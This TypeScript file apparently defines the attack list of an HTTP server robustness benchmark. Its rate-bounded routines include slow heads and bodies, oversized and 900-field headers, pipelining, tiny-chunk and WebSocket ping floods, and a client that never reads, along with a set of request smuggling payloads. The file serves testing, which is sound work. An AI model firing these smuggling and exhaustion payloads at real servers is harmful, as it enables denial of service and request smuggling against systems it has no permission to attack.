// The attacks of the benchmark, each of a stated and bounded rate.
import { randomBytes } from 'node:crypto';
import type { Attack } from './attack.ts';

const get = 'GET / HTTP/1.1\r\nhost: a\r\n\r\n';
const chunkedPost = 'POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n';

/** Heads whose end two parsers may see in two places, or that no parser should take. */
const doubtfulRequests: readonly string[] = [
  'POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 6\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nG',
  'POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n5c\r\nGPOST / HTTP/1.1\r\n\r\n0\r\n\r\n',
  'POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\ntransfer-encoding: cow\r\n\r\n0\r\n\r\n',
  'POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 8\r\ncontent-length: 7\r\n\r\n12345\r\na',
  'GET / HTTP/1.1\nhost: a\n\nGET /second HTTP/1.1\nhost: a\n\n',
  'GET / HTTP/1.1\r\nhost: a\r\nx: a\0b\r\n\r\n',
  'GET / HTTP/1.1\r\nhost: a\r\nx: a\r\n folded\r\n\r\n',
  'GET / HTTP/1.1\r\nhost : a\r\n\r\n',
  'POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\nffffffffffffffff1\r\nx\r\n0\r\n\r\n',
  'POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding:\x0bchunked\r\n\r\n0\r\n\r\n',
  'GET / HTTP/9.9\r\nhost: a\r\n\r\n',
  '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03garbage',
];

const oversizedHead = `GET / HTTP/1.1\r\nhost: a\r\n${`x-large: ${'a'.repeat(4000)}\r\n`.repeat(32)}`;
const manyFields = `GET / HTTP/1.1\r\nhost: a\r\n${Array.from({ length: 900 }, (_, i) => `x-${i}: 1\r\n`).join('')}\r\n`;
const upgrade = `GET / HTTP/1.1\r\nhost: a\r\nconnection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: ${randomBytes(16).toString('base64')}\r\n\r\n`;
/** RFC 6455 §5.2: FIN and opcode 9, masked, no payload. */
const ping = Buffer.from([0x89, 0x80, 1, 2, 3, 4]);

export const attackList: readonly Attack[] = [
  {
    name: 'slow-heads',
    rate: '500 connections, a byte a second on each, heads that never end',
    target: 'neighbour',
    run: (tools) =>
      tools.feed(
        tools.keep(500, (socket) => socket.write('GET / HTTP/1.1\r\nhost: a\r\nx-slow: ')),
        500,
        'a',
      ),
  },
  {
    name: 'slow-bodies',
    rate: '500 connections, a byte a second on each, bodies of 1 MB',
    target: 'neighbour',
    run: (tools) =>
      tools.feed(
        tools.keep(500, (socket) => socket.write('POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n')),
        500,
        'a',
      ),
  },
  {
    name: 'oversized-heads',
    rate: '50 connections/s, 128 KB of fields without an end on each',
    target: 'neighbour',
    run: (tools) => tools.pace(50, () => tools.openFor(500, oversizedHead)),
  },
  {
    name: 'smuggling',
    rate: `200 connections/s, ${doubtfulRequests.length} kinds of doubtful requests in turn`,
    target: 'neighbour',
    run: (tools) =>
      tools.pace(200, (number) =>
        tools.openFor(300, Buffer.from(doubtfulRequests[number % doubtfulRequests.length] ?? '', 'latin1')),
      ),
  },
  {
    name: 'silent',
    rate: '200 connections/s that send nothing, reset after 1 s',
    target: 'neighbour',
    run: (tools) => tools.pace(200, () => tools.openFor(1000)),
  },
  {
    name: 'connect-and-reset',
    rate: '200 connections/s, reset as soon as they are there',
    target: 'neighbour',
    run: (tools) =>
      tools.pace(200, () => {
        const socket = tools.open();
        socket.once('connect', () => socket.resetAndDestroy());
      }),
  },
  {
    name: 'never-reads',
    rate: '32 connections that ask for 1 GiB and read none of it',
    target: 'bulk',
    run: (tools) => {
      tools.keep(32, (socket) => {
        socket.pause();
        socket.write(`GET /down?${2 ** 30} HTTP/1.1\r\nhost: a\r\n\r\n`);
      });
    },
  },
  {
    name: 'pipelining',
    rate: '2,000 requests/s in bunches of 20 on 4 connections',
    target: 'neighbour',
    run: (tools) =>
      tools.feed(
        tools.keep(4, () => {}),
        20,
        get.repeat(100),
      ),
  },
  {
    name: 'tiny-chunks',
    rate: '10,000 chunks/s of one byte, ten in a write, on 4 connections',
    target: 'neighbour',
    run: (tools) =>
      tools.feed(
        tools.keep(4, (socket) => socket.write(chunkedPost)),
        1000,
        '1\r\nx\r\n'.repeat(10),
      ),
  },
  {
    name: 'many-fields',
    rate: '200 requests/s with 900 fields each on 4 connections',
    target: 'neighbour',
    run: (tools) =>
      tools.feed(
        tools.keep(4, () => {}),
        200,
        manyFields,
      ),
  },
  {
    name: 'websocket-pings',
    rate: '10,000 pings/s, ten in a write, on 4 connections',
    target: 'bulk',
    run: (tools) =>
      tools.feed(
        tools.keep(4, (socket) => socket.write(upgrade)),
        1000,
        Buffer.concat(Array.from({ length: 10 }, () => ping)),
      ),
  },
  {
    name: 'chunk-extensions',
    rate: '1,000 chunks/s with an extension of 1 KB on 4 connections',
    target: 'neighbour',
    run: (tools) =>
      tools.feed(
        tools.keep(4, (socket) => socket.write(chunkedPost)),
        1000,
        `1;x=${'e'.repeat(1000)}\r\nx\r\n`,
      ),
  },
];
